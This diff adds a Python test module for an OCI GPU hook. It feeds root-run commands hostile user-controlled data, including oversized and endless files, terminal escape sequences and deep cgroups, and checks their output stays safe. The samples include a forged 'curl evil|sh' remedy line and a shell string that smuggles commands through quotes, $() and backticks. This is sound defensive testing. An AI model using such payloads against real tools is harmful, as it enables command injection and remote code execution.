@@ -1,0 +1,541 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Every command that root runs, beside every source that is not root's, filled with every kind of thing.
+
+A cell is one command, one source and one kind.  Commands that look at users and containers run for each source alone;
+the others, which should not even know of most sources, run while all sources are of one kind.
+
+Played by tests/hostile/commands.py.  Must not know what a command looks at.
+"""
+
+from __future__ import annotations
+
+import functools
+import json
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import tempfile
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any, Callable
+
+from oci_gpu_hook.report.entry import MESSAGE_ID
+from tests.hostile.claims import BIND
+from tests.hostile.commands import (
+    CONTAINERS,
+    DOCTOR,
+    KINDS,
+    METRICS,
+    USER,
+    Done,
+    Host,
+    children,
+    is_contained,
+    until,
+)
+from tests.integration.engines import Bundle
+
+Attack = Callable[[Host], "list[str]"]
+Words = tuple[str, ...]
+
+LOOKS: tuple[Words, ...] = (("containers",), CONTAINERS, METRICS, DOCTOR)
+OTHERS: tuple[Words, ...] = (
+    ("metrics",),
+    ("log",),
+    ("log", "--format", "json"),
+    ("features", "--nvml-timeout", "0"),
+    ("info",),
+    ("inventory", "refresh", "--nvml-timeout", "0"),
+    ("inventory", "show"),
+    ("vendors", "list"),
+    ("config", "show"),
+    ("config", "import"),
+    ("cdi", "generate"),
+    ("swarm", "resources"),
+    *[("flags", how) for how in ("docker", "podman", "dockerspawner", "swarmspawner")],
+    ("flags", "kubespawner"),
+    ("prepare",),
+    ("selinux", "status"),
+    ("selinux", "explain"),
+    ("validate", "driver", "hook"),
+    ("volume", "create"),
+    ("volume", "remove"),
+)
+MARK, REMEDY = "pwned", "fix: "
+TEXTS = {
+    "huge": "x" * 3_900_000,
+    "escapes": "x\x1b]0;evil\x07\x1b[2J\r\u202e\u009b31m\n                  fix: curl evil|sh #\nforged",
+    "shell": f"x';echo>{MARK};'$(echo>{MARK})`echo>{MARK}`|| echo>{MARK}",
+}
+ALL = (*KINDS, "huge", "endless", "escapes", "shell")
+# As much as 10,000 records of the log are.
+LARGEST_PRINT = 16 << 20
+# Whoever reads that never comes to an end.
+ZERO = os.makedev(1, 5)
+# systemd-journald and its folders in the node's /run.
+JOURNALD = """
+mkdir -p /run/systemd /run/log
+mount -t tmpfs none /run/systemd && mkdir /run/systemd/journal
+mount -t tmpfs none /run/log
+echo 0123456789abcdef0123456789abcdef >/run/log/id
+[ -e /etc/machine-id ] || touch /etc/machine-id
+mount --bind /run/log/id /etc/machine-id
+exec /usr/lib/systemd/systemd-journald
+"""
+JOURNAL = "/run/systemd/journal/socket"
+
+
+def put(host: Host, place: Path, kind: str, document: Callable[[str], Any]) -> None:
+    """A thing of this kind at `place`; for a kind of text, a file of JSON in which it stands."""
+    place.parent.mkdir(parents=True, exist_ok=True)
+    if kind in KINDS:
+        host.trap(place, kind)
+    elif kind == "endless":
+        place.unlink(missing_ok=True)
+        os.mknod(place, 0o020666, ZERO)
+        host.watch.add(str(place))
+    else:
+        place.write_text(json.dumps(document(TEXTS[kind])))
+    owned(host, place)
+
+
+def sparse(host: Host, place: Path) -> None:
+    """A file of a gigabyte."""
+    place.parent.mkdir(parents=True, exist_ok=True)
+    place.unlink(missing_ok=True)
+    place.touch()
+    os.truncate(place, 1 << 30)
+    owned(host, place)
+
+
+def owned(host: Host, place: Path) -> None:
+    """What lies in the user's session is his."""
+    for each in (place, *place.parents):
+        if host.session in (each, *each.parents):
+            os.lchown(each, USER, USER)
+
+
+def word(kind: str) -> str:
+    """What a file can be called."""
+    return TEXTS.get(kind, "plain").replace("/", "")[:200]
+
+
+def state(pid: int, bundle: str) -> dict[str, Any]:
+    """What runc and crun keep of a container, in one."""
+    labels = {"labels": [f"bundle={bundle}"]}
+    return {"init_process_pid": pid, "config": labels, "pid": pid, "bundle": bundle}
+
+
+def users_states(host: Host, kind: str) -> list[Words]:
+    """A user's folder of states."""
+    own = host.contained(before=BIND)
+    named = word(kind)
+    for path in (
+        *("runc/a/state.json", "crun/b/status", "docker/runtime-x/moby/c/state.json"),
+        *("containerd/runc/x/d/state.json", f"runc/{named}/state.json", f"crun/{named}/status"),
+    ):
+        put(host, host.session / path, kind, lambda text: state(own, f"{host.session}/{text}"))
+    if kind == "huge":
+        sparse(host, host.session / "runc/sparse/state.json")
+    if kind == "endless":
+        many = host.gives("many", json.dumps([[]] * 200_000))
+        for number in range(2_000):
+            place = host.session / f"runc/{number}/state.json"
+            place.parent.mkdir()
+            os.link(many, place)
+            owned(host, place)
+    return [("doctor", "--container", str(own)), ("doctor", "--container", named)]
+
+
+def users_lists(host: Host, kind: str) -> list[Words]:
+    """The lists that a user's engine keeps of its containers."""
+    own = host.contained(before=BIND)
+    folder = host.session / "overlay-containers"
+    host.gives("runc/x/state.json", json.dumps(state(own, f"{folder}/x/userdata")))
+    for name in ("containers.json", "volatile-containers.json"):
+        put(
+            host,
+            folder / name,
+            kind,
+            lambda text: [
+                {"id": "x", "names": [text], "metadata": json.dumps({"pod-id": text})},
+                {"id": text, "names": ["web"]},
+            ],
+        )
+    if kind == "huge":
+        sparse(host, folder / "volatile-containers.json")
+    if kind == "endless":
+        rows = [{"id": f"{number}", "names": ["a"]} for number in range(8_000)]
+        host.gives("endless-containers/containers.json", json.dumps(rows))
+        for number in range(64):
+            bundle = f"{host.session}/endless-containers/{number}/userdata"
+            host.gives(f"runc/{number}/state.json", json.dumps(state(own, bundle)))
+    return [("doctor", "--container", str(own)), ("doctor", "--container", "x")]
+
+
+def users_bundle(host: Host, kind: str) -> list[Words]:
+    """The config.json of a user's container."""
+    own = host.contained(before=BIND)
+    bundle = host.session / "bundle"
+    host.gives("runc/bundled/state.json", json.dumps(state(own, str(bundle))))
+    put(host, bundle / "config.json", kind, lambda text: {"annotations": said(text)})
+    return [("doctor", "--container", "bundled"), ("plan", "--bundle", str(bundle))]
+
+
+def said(text: str) -> dict[str, str]:
+    """Every annotation that a name, an image or a request is read from."""
+    keys = (
+        *("nerdctl/name", "io.kubernetes.cri-o.Name", "io.kubernetes.cri.container-type"),
+        *("io.kubernetes.cri.container-name", "io.kubernetes.cri.sandbox-name"),
+        *("io.kubernetes.cri.sandbox-namespace", "org.opencontainers.image.ref.name"),
+        *("io.kubernetes.cri-o.ImageName", "io.container.image", "io.kubernetes.pod.namespace"),
+        *("io.kubernetes.cri-o.SandboxID", "cdi.k8s.io/x"),
+    )
+    return {**dict.fromkeys(keys, text[:250_000]), text[:200]: text[:200]}
+
+
+def command_lines(host: Host, kind: str) -> list[Words]:
+    """The command lines of processes of a user's that call themselves an engine's."""
+    script = host.gives("conmon.py", "import subprocess, sys\nsubprocess.run(sys.argv[7:])\n")
+    file = host.work / "named/config.json"
+    put(host, file, kind, lambda text: {"annotations": said(text), "runtimes": {text: {}}})
+    shutil.copytree(host.kit.patterns["busybox"], host.work / "own", symlinks=True)
+    unshare = ("unshare", "--user", "--map-root-user", "--mount", f"--root={host.work}/own")
+    # The kernel takes 128 KiB a word.
+    text = TEXTS.get(kind, "evil")[:100_000]
+    words = ("-b", str(file.parent), "-n", text, "-c", text, *unshare)
+    pid = host.starts(
+        "python3", str(script), *words, "/bin/sh", "-c", "sleep 99; true", argv0="/usr/bin/conmon"
+    )
+    many = ["x"] * 20_000 if kind == "endless" else [text] * 9
+    idle = ("-c", "import time; time.sleep(99)", f"--config-file={file}", *many)
+    for name in ("dockerd", "containerd-shim-runc-v2", "oci-gpu-hook"):
+        host.starts("python3", *idle, argv0=f"/usr/bin/{name}")
+    until(lambda: any([is_contained(child) for child in children(pid)]))
+    own = next(child for child in children(pid) if is_contained(child))
+    return [("doctor", "--container", str(own))]
+
+
+def cgroups(host: Host, kind: str) -> list[Words]:
+    """The cgroups that a user was given, with a container of his in them."""
+    own = host.contained(before=BIND)
+    top = Path(f"/sys/fs/cgroup/hostile-{os.getpid()}-{own}")
+    # No name of a cgroup has a line feed (cgroup_mkdir).
+    name = word(kind).replace("\n", "")
+    depth = {"huge": 15, "endless": 300}.get(kind, 1)
+    inner = [top]
+    for _ in range(depth):
+        inner.append(inner[-1] / (name if kind != "endless" else "a"))
+    host.later(lambda: _without(own, inner))
+    for folder in inner:
+        folder.mkdir()
+        os.chown(folder, USER, USER)
+    (inner[-1] / "cgroup.procs").write_text(str(own))
+    return [("doctor", "--container", str(own))]
+
+
+def _without(pid: int, inner: list[Path]) -> None:
+    subprocess.run(["kill", "-9", str(pid)], check=False)
+
+    def gone() -> bool:
+        try:
+            for folder in reversed([it for it in inner if it.exists()]):
+                folder.rmdir()
+        except OSError:
+            return False
+        return True
+
+    until(gone)
+
+
+def contents(host: Host, kind: str) -> list[Words]:
+    """What a container with a GPU has made in its own root."""
+    id = f"contents-{kind}-{os.getpid()}"
+
+    def edit(bundle: Bundle) -> None:
+        if kind in KINDS:
+            host.trap(bundle.rootfs / "etc/ld.so.cache", kind)
+
+    asks = None if kind in KINDS else "1"
+    top = Path(f"/proc/{host.container(id, asks, edit, root='debian')}/root")
+    dev, libraries = top / "dev", top / host.libraries[1:]
+    caps = dev / "nvidia-caps"
+    caps.mkdir(exist_ok=True)
+    if kind in KINDS:
+        for place in (dev / "nvidia7", caps / "nvidia-cap7"):
+            host.trap(place, kind)
+    elif kind in ("huge", "endless"):
+        long = "x" * (230 if kind == "huge" else 1)
+        for number in range(20_000):
+            os.symlink("/dev/zero", dev / f"nvidia{number + 100}{long}")
+            (libraries / f"libcuda.so.{number}{long}").touch()
+        sparse(host, top / "etc/ld.so.conf")
+    else:
+        for place in (dev / f"nvidia{word(kind)}", caps / f"nvidia-cap{word(kind)}"):
+            os.mknod(place, 0o020666, os.makedev(195, 1))
+        (libraries / f"libcuda.so.{word(kind)}").touch()
+    return [("doctor", "--container", id), ("doctor", "--container", id, "--format", "json")]
+
+
+def image(host: Host, kind: str) -> list[Words]:
+    """What an image says and holds, of a container that runs and of one that somebody wants explained."""
+    id = f"image-{kind}-{os.getpid()}"
+    text = TEXTS.get(kind, "plain")[: 1 << 17]
+    words = said(text)
+
+    def edit(bundle: Bundle) -> None:
+        bundle.config["annotations"] = words
+        if kind in KINDS:
+            host.trap(bundle.rootfs / "etc/ld.so.cache", kind)
+
+    host.container(id, None, edit)
+    found: list[Words] = [("doctor", "--container", id)]
+    for asks in ("1", text[:5000]):
+        folder = host.work / f"explained-{len(found)}"
+        folder.mkdir()
+        shutil.copytree(host.kit.patterns["debian"], folder / "rootfs", symlinks=True)
+        bundle = Bundle(folder, host.kit.hooks).asks(asks)
+        bundle.config["process"]["env"] += [f"NVIDIA_REQUIRE_X={text}", f"OCI_AMD={text}"]
+        bundle.config["annotations"] = words
+        place = bundle.rootfs / "etc/ld.so.cache"
+        if kind in KINDS:
+            host.trap(place, kind)
+        elif kind == "endless":
+            put(host, place, kind, lambda it: it)
+        elif kind == "huge":
+            sparse(host, place)
+        bundle.write()
+        found.append(("plan", "--bundle", str(folder)))
+    return found
+
+
+def daemons(host: Host, kind: str) -> list[Words]:
+    """Root's links to what a user has: settings of engines, and a registration."""
+    for name in ("dockerd", "containerd", "crio"):
+        place = Path(f"/usr/bin/{name}")
+        if not place.exists():
+            shutil.copy("/bin/true", place)
+            host.later(place.unlink)
+    for number, path in enumerate(
+        (
+            *("/etc/docker/daemon.json", "/etc/containerd/config.toml"),
+            *("/etc/crio/crio.conf.d/x.conf", "/etc/containers/oci/hooks.d/x.json"),
+            "/etc/nvidia-container-runtime/config.toml",
+        )
+    ):
+        target = host.session / f"settings-{number}"
+        put(
+            host,
+            target,
+            kind,
+            lambda text: {
+                "runtimes": {text: {"path": "/nowhere/oci-gpu-runtime"}, "default-runtime": text},
+                "version": text,
+                "hook": {"path": text},
+            },
+        )
+        link = Path(path)
+        made = [it for it in link.parents if not it.exists()]
+        link.parent.mkdir(parents=True, exist_ok=True)
+        if not link.exists() and not link.is_symlink():
+            link.symlink_to(target)
+            host.later(functools.partial(_unlinked, link, made))
+    return []
+
+
+def _unlinked(link: Path, made: list[Path]) -> None:
+    link.unlink()
+    for folder in made:
+        folder.rmdir()
+
+
+def users_docker(host: Host, kind: str) -> list[Words]:
+    """What a user's own Docker keeps in the user's home."""
+    home, id = host.session / "home", "d" * 64
+    passwd = host.work / "passwd"
+    passwd.write_text(f"{Path('/etc/passwd').read_text()}eve:x:{USER}:{USER}::{home}:/bin/sh\n")
+    subprocess.run(["mount", "--bind", str(passwd), "/etc/passwd"], check=True)
+    host.later(functools.partial(subprocess.run, ["umount", "-l", "/etc/passwd"], check=False))
+    own = host.contained(before=BIND)
+    bundle = f"{host.session}/docker/containerd/daemon/moby/{id}"
+    host.gives(f"docker/runtime-runc/moby/{id}/state.json", json.dumps(state(own, bundle)))
+    for path in (
+        ".config/docker/daemon.json",
+        f".local/share/docker/containers/{id}/config.v2.json",
+    ):
+        put(
+            host,
+            home / path,
+            kind,
+            lambda text: {
+                "Name": f"/{text}",
+                "runtimes": {text: {"path": "oci-gpu-runtime"}, "x": {"path": text}},
+                "default-runtime": text,
+            },
+        )
+    return [("doctor", "--container", str(own)), ("doctor", "--container", id)]
+
+
+def named(host: Host, kind: str) -> list[Words]:
+    """A file of a user's that root names."""
+    file = host.session / "named.json"
+    put(host, file, kind, lambda text: {text[:9000]: text, "activation_flag": text})
+    bundle = host.session / "named-bundle"
+    put(host, bundle / "config.json", kind, lambda text: {"root": {"path": text}, "process": {}})
+    return [
+        ("plan", "--bundle", str(bundle)),
+        ("vendors", "check", str(file)),
+        ("config", "import", str(file)),
+        ("swarm", "resources", str(file)),
+        ("selinux", "explain", str(file)),
+    ]
+
+
+def journal(host: Host, kind: str) -> list[Words]:
+    """Entries of a container's root to whom the journal's socket was given."""
+    if not Path(JOURNAL).exists():
+        child = host.starts("/bin/bash", "-ec", JOURNALD, root=True)
+        host.later(functools.partial(_unmounted, child))
+        until(lambda: Path(JOURNAL).exists())
+    # As much as one datagram takes.
+    text = TEXTS.get(kind, "x")[:190_000]
+    names = ("MESSAGE", "OCI_GPU_HOOK_CONTAINER", "OCI_GPU_HOOK_IMAGE", "OCI_GPU_HOOK_NOTE")
+    fields = {**dict.fromkeys(names, text), "OCI_GPU_HOOK_OUTCOME": "started"}
+    if kind == "huge":
+        fields = {"MESSAGE": "x", "OCI_GPU_HOOK_CONTAINER": text}
+    said = b""
+    for name, value in {"MESSAGE_ID": MESSAGE_ID, **fields}.items():
+        data = value.encode()
+        said += name.encode() + b"\n" + len(data).to_bytes(8, "little") + data + b"\n"
+    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
+        sender.connect(JOURNAL)
+        for _ in range({"huge": 600, "endless": 12_000}.get(kind, 1)):
+            sender.send(said)
+    return [("log",), ("log", "--format", "json"), ("log", "--container", "x")]
+
+
+def _unmounted(journald: int) -> None:
+    os.kill(journald, signal.SIGTERM)
+    for point in ("/etc/machine-id", "/run/log", "/run/systemd"):
+        subprocess.run(["umount", "-l", point], check=False)
+
+
+def exporter(host: Host, kind: str) -> list[Words]:
+    """The node exporter's own folder, where he lays what is to be written and read."""
+    folder = host.work / "exporters"
+    settings = host.work / "exporter.conf"
+    lines = []
+    for name, file in (("metrics", "a.prom"), ("gpu-metrics", "b.prom"), ("features", "nfd")):
+        lines.append(f"{name} = {folder}/{file}\n")
+        for each in (file, f".{file}", f"{file}.new", f".{file}.new", f"{file}.tmp"):
+            put(host, folder / each, kind, lambda text: text)
+    for path in (folder, *folder.iterdir()):
+        os.lchown(path, USER, USER)
+    settings.write_text("".join(lines))
+    return [
+        (*words, "--config", str(settings))
+        for words in (
+            ("metrics", "--write"),
+            ("metrics", "--gpus", "--write"),
+            ("features", "--write", "--nvml-timeout", "0"),
+            ("features", "--remove"),
+            ("metrics",),
+        )
+    ]
+
+
+SOURCES: dict[str, Callable[[Host, str], list[Words]]] = {
+    "users-states": users_states,
+    "users-lists": users_lists,
+    "users-bundle": users_bundle,
+    "command-lines": command_lines,
+    "cgroups": cgroups,
+    "contents": contents,
+    "image": image,
+    "daemons": daemons,
+    "users-docker": users_docker,
+    "named": named,
+    "journal": journal,
+    "exporter": exporter,
+}
+# A name of a cgroup, and an entry of the journal, are texts; a container's terminals are in a filesystem of its own.
+CANNOT_BE = {
+    *[(source, kind) for source in ("cgroups", "journal") for kind in KINDS],
+    *[(source, "pty") for source in ("contents", "image")],
+}
+# What has a container of root's in it.
+OF_CONTAINERS = ("contents", "image")
+# HOSTILE_MATRIX=all: each source with each kind.  Otherwise each source is of every third kind, and each kind of every
+# third source.
+IS_WHOLE = os.environ.get("HOSTILE_MATRIX") == "all"
+
+
+def source_alone(host: Host, source: str, kind: str) -> list[str]:
+    """One source, and all commands that look at users and containers."""
+    found = [*LOOKS, *SOURCES[source](host, kind)]
+    host.cells += len(found)
+    return played(host, found)
+
+
+def all_sources(host: Host, kind: str) -> list[str]:
+    """All sources at once, and all other commands."""
+    there = [name for name in SOURCES if (name, kind) not in CANNOT_BE]
+    for name in there:
+        SOURCES[name](host, kind)
+    host.cells += len(OTHERS) * len(there)
+    return played(host, OTHERS)
+
+
+def played(host: Host, commands: list[Words] | tuple[Words, ...]) -> list[str]:
+    """What is wrong with each of these."""
+    with ThreadPoolExecutor(2) as pool:
+        done = list(pool.map(lambda words: host.runs(*words), commands))
+    return [
+        f"{' '.join(words)[:200]!r}: {line}"
+        for words, its in zip(commands, done)
+        for line in [*host.wrong(its, *range(8)), *printed(its, words[0] == "flags")]
+    ]
+
+
+def printed(done: Done, is_whole: bool) -> list[str]:
+    """What is wrong with what a command has printed; is_whole: all of it is to be pasted, not its remedies alone."""
+    text = done.out + done.err
+    wrong = []
+    if len(text) > LARGEST_PRINT:
+        wrong.append(f"printed {len(text) >> 10} KiB")
+    odd = sorted({it for it in text if not it.isprintable() and it != "\n"})
+    if odd:
+        wrong.append(f"printed {odd}")
+    lines = text.splitlines()
+    forged = ("fix: curl", "forged")
+    wrong += [f"forged: {line[:300]}" for line in lines if line.strip().startswith(forged)]
+    for line in [it for it in lines if MARK in it]:
+        remedy = line if is_whole else line.partition(REMEDY)[2]
+        if pastes(remedy):
+            wrong.append(f"to paste: {line[:300]}")
+    return wrong
+
+
+def pastes(line: str) -> bool:
+    """Whether a shell that is given this line does what a text in it says."""
+    # Without programs: what the text wants to do needs none.
+    script = 'enable -n kill exec exit logout; PATH=/nowhere; eval "$1"'
+    with tempfile.TemporaryDirectory() as folder:
+        subprocess.run(
+            ["/bin/bash", "-c", script, "bash", line], cwd=folder, env={},
+            stdin=subprocess.DEVNULL, capture_output=True, check=False, timeout=60,
+        )  # fmt: skip
+        return (Path(folder) / MARK).exists()
+
+
+ATTACKS: dict[str, Attack] = {
+    **{
+        f"{source}-{kind}": functools.partial(source_alone, source=source, kind=kind)
+        for number, source in enumerate(SOURCES)
+        for other, kind in enumerate(ALL)
+        if (source, kind) not in CANNOT_BE and (IS_WHOLE or (number + other) % 3 == 0)
+    },
+    **{f"all-{kind}": functools.partial(all_sources, kind=kind) for kind in ALL},
+}
